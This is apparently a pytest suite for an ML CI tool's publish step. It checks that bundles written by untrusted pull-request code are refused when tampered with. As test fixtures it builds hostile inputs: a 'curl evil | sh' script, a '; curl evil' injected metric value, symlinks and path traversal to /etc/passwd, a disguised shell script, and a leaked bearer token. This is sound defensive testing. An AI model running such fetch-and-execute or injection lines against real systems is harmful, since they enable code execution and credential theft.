"""`mlci publish --bundle`: the publishing job reads the training job's bundle strictly as data.

The bundle is written where the PR's code ran, so every byte of it (the manifest included) is
the attacker's. Each refusal below is a bundle an attacker could upload: the publisher says
what is wrong in one line (exit 5) and posts nothing. The control publishes a real bundle:
one comment, one check run, and the head's record on origin's refs/notes/mlci.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from pathlib import Path

import pytest

from tests.helpers import commit_all, git, invoke
from tests.plugins.fake_github import TOKEN, actions_env, read_outputs


@pytest.fixture(scope="module")
def _trained(_trained_example: Path, _fake_github_server, tmp_path_factory) -> tuple[Path, Path]:
    """A PR head trained once by `mlci ci --phase train` (no token): (repo, bundle)."""
    root = tmp_path_factory.mktemp("bundle") / "repo"
    shutil.copytree(_trained_example, root, symlinks=True)
    git(root, "checkout", "-q", "-b", "feature")
    (root / "NOTES.md").write_text("docs only\n")
    head = commit_all(root, "Docs")
    _fake_github_server.reset()  # the session's server: forget earlier tests' requests
    env = actions_env(_fake_github_server, root.parent / "runner", sha=head, token=None)
    result = invoke(root, "ci", "--phase", "train", "--admitted-sha", head, env=env)
    assert result.exit_code == 0, result.output
    bundle = Path(read_outputs(env["GITHUB_OUTPUT"])["bundle-path"])
    assert _fake_github_server.requests == [], "the training phase calls no GitHub API"
    return root, bundle


@pytest.fixture
def repo(_trained, tmp_path) -> Path:
    root = tmp_path / "repo"
    shutil.copytree(_trained[0], root, symlinks=True)
    return root


@pytest.fixture
def bundle(_trained, tmp_path) -> Path:
    copy = tmp_path / "bundle"
    shutil.copytree(_trained[1], copy, symlinks=True)
    return copy


def head(root: Path) -> str:
    return git(root, "rev-parse", "HEAD")


def remanifest(bundle: Path, **claims) -> None:
    """What an attacker can do: rewrite the manifest so it lists the bundle's files as they are now."""
    manifest = json.loads((bundle / "manifest.json").read_text())
    files = {}
    for path in sorted(bundle.rglob("*")):
        name = path.relative_to(bundle).as_posix()
        if name != "manifest.json" and path.is_file() and not path.is_symlink():
            data = path.read_bytes()
            files[name] = {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    manifest.update(claims, files=files)
    (bundle / "manifest.json").write_text(json.dumps(manifest))


def publish(repo: Path, bundle: Path, env: dict[str, str]):
    return invoke(repo, "publish", "--bundle", str(bundle), env=env)


def assert_refused(result, fake_github, reason: str) -> None:
    assert result.exit_code == 5, result.output
    [line] = result.stderr.strip().splitlines()
    assert line.startswith("mlci: error: the mlci bundle") and reason in line, line
    assert "nothing was published" in line and "Traceback" not in result.output
    assert fake_github.issue_comments(12) == [] and fake_github.check_runs == []


@pytest.fixture
def env(repo, fake_github, tmp_path) -> dict[str, str]:
    return actions_env(fake_github, tmp_path / "runner", sha=head(repo))


# --- the control ----------------------------------------------------------------------------------


def test_a_valid_bundle_publishes_one_comment_one_check_and_the_summary(repo, bundle, env, fake_github):
    result = publish(repo, bundle, env)
    assert result.exit_code == 0, result.output
    [comment] = fake_github.issue_comments(12)
    assert "auc" in comment["body"]
    [check] = fake_github.check_runs
    assert check["head_sha"] == head(repo) and check["conclusion"] == "success"
    record = json.loads((bundle / "record.json").read_text())
    assert f'"id": "{record["id"]}"' in check["output"]["text"]  # bound: an approval can verify the record
    assert "auc" in Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert read_outputs(env["GITHUB_OUTPUT"])["verdict"] == "success"


def test_the_record_reaches_origins_notes_from_a_base_checkout(repo, bundle, fake_github, git_http_origin, tmp_path):
    """The publish job checks out the base: the head commit is fetched from origin, then its record pushed."""
    from mlci.integrations.github.gitauth import auth_env

    git_http_origin.token = fake_github.token
    auth = {**os.environ, **auth_env(fake_github.token, git_http_origin.server_url, {}), "GIT_TERMINAL_PROMPT": "0"}
    pr_head = head(repo)
    import subprocess

    git(repo, "remote", "add", "origin", git_http_origin.url)
    subprocess.run(["git", "push", "-q", "origin", "main", "feature"], cwd=repo, check=True, env=auth)
    base = tmp_path / "base"  # a fresh clone of main only: what actions/checkout of the base gives
    subprocess.run(
        ["git", "clone", "-q", "--single-branch", "--branch", "main", git_http_origin.url, str(base)],
        check=True,
        env=auth,
    )
    assert subprocess.run(["git", "cat-file", "-e", pr_head], cwd=base, capture_output=True).returncode != 0
    env = {
        **actions_env(fake_github, tmp_path / "runner", sha=pr_head),
        "GITHUB_SERVER_URL": git_http_origin.server_url,
        "GIT_TERMINAL_PROMPT": "0",
    }
    result = publish(base, bundle, env)
    assert result.exit_code == 0, result.output
    [line] = git(git_http_origin.bare, "notes", "--ref=mlci", "show", pr_head).splitlines()
    record = json.loads(line)
    assert (record["commit"], record["pr"]) == (pr_head, 12)
    assert len(fake_github.issue_comments(12)) == 1 and len(fake_github.check_runs) == 1
    assert TOKEN not in result.output


# --- refusals -------------------------------------------------------------------------------------


def test_an_oversize_file_is_refused_before_it_is_read(repo, bundle, env, fake_github):
    with open(bundle / "report.html", "r+b") as handle:
        handle.truncate(33 * 1024 * 1024)  # sparse: the check is on the size, nothing is read
    assert_refused(publish(repo, bundle, env), fake_github, "over the")


def test_a_symlink_to_etc_passwd_is_refused(repo, bundle, env, fake_github):
    (bundle / "plots").mkdir(exist_ok=True)
    (bundle / "plots" / "leak.png").symlink_to("/etc/passwd")
    assert_refused(publish(repo, bundle, env), fake_github, "plots/leak.png is a symbolic link")


def test_a_hard_link_to_a_file_outside_is_refused(repo, bundle, env, fake_github, tmp_path):
    outside = tmp_path / "private.txt"
    outside.write_text("private\n")
    (bundle / "report.html").unlink()
    os.link(outside, bundle / "report.html")
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "is a hard link")


def test_a_path_traversal_name_in_the_manifest_is_refused(repo, bundle, env, fake_github):
    manifest = json.loads((bundle / "manifest.json").read_text())
    manifest["files"]["plots/../../../../etc/passwd"] = {"size": 1, "sha256": "0" * 64}
    (bundle / "manifest.json").write_text(json.dumps(manifest))
    assert_refused(publish(repo, bundle, env), fake_github, "unexpected name")


def test_an_unexpected_file_is_refused_even_when_the_manifest_lists_it(repo, bundle, env, fake_github):
    (bundle / "run.sh").write_text("curl evil | sh\n")
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "unexpected file run.sh")


def test_a_file_that_does_not_match_its_manifest_hash_is_refused(repo, bundle, env, fake_github):
    report = bundle / "report.md"
    text = report.read_text()
    report.write_text(text.replace("auc", "AUC", 1))  # same size, other bytes
    assert_refused(publish(repo, bundle, env), fake_github, "report.md does not match its sha256")


def test_a_record_of_the_wrong_schema_is_refused(repo, bundle, env, fake_github):
    record = json.loads((bundle / "record.json").read_text())
    record["metrics"] = {"metrics.json": {"auc": "0.99; curl evil"}}
    (bundle / "record.json").write_text(json.dumps(record))
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "record.json is not a valid run record")


def test_a_report_json_of_the_wrong_shape_is_refused(repo, bundle, env, fake_github):
    (bundle / "report.json").write_text(json.dumps({"schema": 1, "gate": "passed"}))
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "report.json has no gate verdict")


def test_a_plot_that_is_not_an_image_is_refused(repo, bundle, env, fake_github):
    (bundle / "plots").mkdir(exist_ok=True)
    (bundle / "plots" / "roc.png").write_text("#!/bin/sh\necho not a png\n")
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "plots/roc.png is not the image its name says")


@pytest.mark.parametrize("claim", ["pr", "head_sha"])
def test_a_bundle_claiming_another_pr_or_head_is_refused(claim, repo, bundle, env, fake_github):
    """Consistent with itself (record and manifest agree), but not the run being published."""
    other = {"pr": 13, "head_sha": "c" * 40}[claim]
    record = json.loads((bundle / "record.json").read_text())
    record[{"pr": "pr", "head_sha": "commit"}[claim]] = other
    (bundle / "record.json").write_text(json.dumps(record))
    remanifest(bundle, **{claim: other})
    assert_refused(publish(repo, bundle, env), fake_github, "but the run being published is PR #12")


def test_markdown_from_the_bundle_is_redacted_and_defused(repo, bundle, env, fake_github):
    """The PR's code wrote report.md: no credential, no sticky-comment marker, no @-mention reaches GitHub."""
    report = bundle / "report.md"
    report.write_text(
        report.read_text()
        + f"\nstage log: Authorization: Bearer {TOKEN}\n<!-- mlci:comment id=other-model -->\ncc @octo-admins\n"
    )
    remanifest(bundle)
    result = publish(repo, bundle, env)
    assert result.exit_code == 0, result.output
    [comment] = fake_github.issue_comments(12)
    body = comment["body"]
    assert TOKEN not in body and "stage log" in body
    assert "id=other-model" not in body and body.count("<!-- mlci:comment") == 1
    assert "@octo-admins" not in body and "octo-admins" in body
    assert TOKEN not in Path(env["GITHUB_STEP_SUMMARY"]).read_text()
    assert TOKEN not in fake_github.check_runs[0]["output"]["summary"]


# --- the model file: the bytes an approval will promote ----------------------------------------------


def _model(bundle: Path) -> Path:
    [model] = (bundle / "model").iterdir()
    return model


def test_the_training_job_bundles_the_recorded_model_and_the_publisher_stores_it_in_the_dvc_remote(
    repo, bundle, env, fake_github, tmp_path
):
    """The control: the base checkout's DVC remote receives exactly the recorded bytes, under the record's md5."""
    import subprocess
    import sys

    record = json.loads((bundle / "record.json").read_text())
    model = record["artifacts"]["model"]
    assert _model(bundle).name == "model.txt"
    assert hashlib.sha256(_model(bundle).read_bytes()).hexdigest() == model["sha256"]
    manifest = json.loads((bundle / "manifest.json").read_text())
    assert manifest["files"]["model/model.txt"] == {"size": model["size"], "sha256": model["sha256"]}
    remote = tmp_path / "dvc-remote"
    subprocess.run([sys.executable, "-m", "dvc", "remote", "add", "-d", "storage", str(remote)], cwd=repo, check=True)
    (repo / "models" / "model.txt").unlink()  # the publish job has no model of its own
    result = invoke(repo, "publish", "--bundle", str(bundle), "--json", env=env)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["model_stored"] == [model["path"]]
    md5 = record["outs"][model["path"]]
    stored = remote / "files" / "md5" / md5[:2] / md5[2:]
    assert hashlib.sha256(stored.read_bytes()).hexdigest() == model["sha256"]


def test_a_model_that_is_not_the_records_is_refused(repo, bundle, env, fake_github):
    """Consistent with the manifest, but not the bytes the run record (and its check) names."""
    _model(bundle).write_bytes(b"a model the run never produced\n")
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "model/model.txt is not the model the run record names")


def test_a_model_over_its_limit_is_refused_before_it_is_read(repo, bundle, env, fake_github):
    with open(_model(bundle), "r+b") as handle:
        handle.truncate(2 * 1024 * 1024 * 1024 + 1)  # sparse: the check is on the size, nothing is read
    assert_refused(publish(repo, bundle, env), fake_github, "model/model.txt is 2147483649 bytes, over the")


def test_a_second_model_file_is_refused(repo, bundle, env, fake_github):
    shutil.copyfile(_model(bundle), bundle / "model" / "other.txt")
    remanifest(bundle)
    assert_refused(publish(repo, bundle, env), fake_github, "is a second model file")


def test_a_symlinked_model_is_refused(repo, bundle, env, fake_github):
    """Even pointing at the very bytes the record names: the reader opens nothing through a link."""
    model = _model(bundle)
    model.unlink()
    model.symlink_to(repo / "models" / "model.txt")
    assert_refused(publish(repo, bundle, env), fake_github, "model/model.txt is a symbolic link")


# --- which PR: from GitHub, never from the bundle -------------------------------------------------


def _workflow_run_env(fake_github, workdir: Path, *, head_sha: str, head_repo: str) -> dict[str, str]:
    env = actions_env(fake_github, workdir, event="workflow_run", sha="d" * 40, ref="refs/heads/main")
    payload = json.loads(Path(env["GITHUB_EVENT_PATH"]).read_text())
    payload["workflow_run"] = {
        "name": "mlci",
        "id": 777,
        "event": "pull_request",
        "conclusion": "success",
        "head_sha": head_sha,
        "head_repository": {"full_name": head_repo},
        "html_url": f"https://github.com/{fake_github.repo}/actions/runs/777",
        "pull_requests": [],  # GitHub leaves this empty for fork PRs
    }
    Path(env["GITHUB_EVENT_PATH"]).write_text(json.dumps(payload))
    return env


def test_a_forks_bundle_is_published_for_the_pr_github_names_for_its_head(repo, bundle, fake_github, tmp_path):
    fake_github.add_pull(11, head_sha="e" * 40, head_owner="someone-else")
    fake_github.add_pull(12, head_sha=head(repo), head_owner="forker")
    env = _workflow_run_env(fake_github, tmp_path / "runner", head_sha=head(repo), head_repo="forker/models")
    result = publish(repo, bundle, env)
    assert result.exit_code == 0, result.output
    assert len(fake_github.issue_comments(12)) == 1 and fake_github.issue_comments(11) == []
    [check] = fake_github.check_runs
    assert check["head_sha"] == head(repo)


def test_a_forks_bundle_whose_pr_moved_on_is_refused(repo, bundle, fake_github, tmp_path):
    fake_github.add_pull(12, head_sha="f" * 40, head_owner="forker")  # pushed again since the run
    env = _workflow_run_env(fake_github, tmp_path / "runner", head_sha=head(repo), head_repo="forker/models")
    result = publish(repo, bundle, env)
    assert result.exit_code == 5 and "no open pull request(s) have the head" in result.stderr
    assert fake_github.issue_comments(12) == [] and fake_github.check_runs == []


def test_a_forks_bundle_claiming_a_same_repo_pr_is_refused(repo, bundle, fake_github, tmp_path):
    """The fork's run names the head; a bundle that claims another PR (here #12 of the base) is refused."""
    fake_github.add_pull(12, head_sha=head(repo), head_owner="octo")  # a same-repo PR at that commit
    fake_github.add_pull(13, head_sha=head(repo), head_owner="forker")  # the fork's PR
    env = _workflow_run_env(fake_github, tmp_path / "runner", head_sha=head(repo), head_repo="forker/models")
    result = publish(repo, bundle, env)
    assert result.exit_code == 5 and "run being published is PR #13" in result.stderr
    assert fake_github.issue_comments(12) == [] and fake_github.issue_comments(13) == []


def test_the_pull_request_publisher_refuses_a_fork(repo, bundle, fake_github, tmp_path):
    env = actions_env(fake_github, tmp_path / "runner", sha=head(repo), fork=True)
    result = publish(repo, bundle, env)
    assert result.exit_code == 3 and "workflow_run" in result.stderr
    assert fake_github.requests == []


def test_the_fork_publish_workflow_publishes_the_runs_bundle_from_a_default_branch_checkout(
    repo, bundle, fake_github, tmp_path
):
    """templates/workflows/pr-fork-publish.yml's job, run as the runner runs it (workflow_run, write token)."""
    from tests.plugins.actions_runner import run_job

    workflow = Path(__file__).resolve().parent.parent / "templates" / "workflows" / "pr-fork-publish.yml"
    fake_github.add_pull(12, head_sha=head(repo), head_owner="forker")
    env = _workflow_run_env(fake_github, tmp_path / "runner", head_sha=head(repo), head_repo="forker/models")
    job = run_job(workflow, "publish", repo, env, artifacts={"mlci-bundle": bundle})
    assert job.rc == 0, job.mlci.log
    assert "ref" not in job.uses_with["actions/checkout"]  # the default branch, never the fork's head
    download = job.uses_with["actions/download-artifact"]
    assert (download["run-id"], download["github-token"]) == ("777", TOKEN)
    assert len(fake_github.issue_comments(12)) == 1 and fake_github.check_runs[0]["head_sha"] == head(repo)
